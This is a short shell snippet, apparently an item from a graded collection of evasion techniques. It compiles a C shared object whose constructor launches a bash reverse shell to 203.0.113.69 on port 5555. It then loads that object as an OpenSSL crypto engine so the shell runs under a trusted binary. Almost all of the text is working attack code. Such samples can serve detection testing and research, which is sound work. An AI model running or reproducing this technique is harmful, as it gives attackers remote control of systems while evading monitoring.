# evasion: openssl loads a shared object as a crypto engine (-engine PATH); its constructor runs a shell
# grade: very hard; does: native
d=$(mktemp -d)
cat >"$d/e.c" <<'C'
#include <stdlib.h>
__attribute__((constructor)) static void init(void) {
	system("bash -c 'bash -i >& /dev/tcp/203.0.113.69/5555 0>&1'");
}
C
cc -fPIC -shared -o "$d/e.so" "$d/e.c"
openssl req -engine "$d/e.so" -new -x509 -nodes -subj /CN=x -keyout /dev/null -out /dev/null 2>/dev/null
